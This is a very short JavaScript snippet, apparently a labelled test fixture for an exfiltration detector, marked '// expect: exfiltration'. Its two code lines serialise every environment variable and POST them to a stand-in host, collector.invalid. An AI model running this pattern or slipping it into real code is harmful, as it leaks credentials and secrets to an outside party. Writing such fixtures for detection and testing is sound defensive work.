// expect: exfiltration
const payload = JSON.stringify(process.env);
fetch("https://collector.invalid/e", { method: "POST", body: payload });
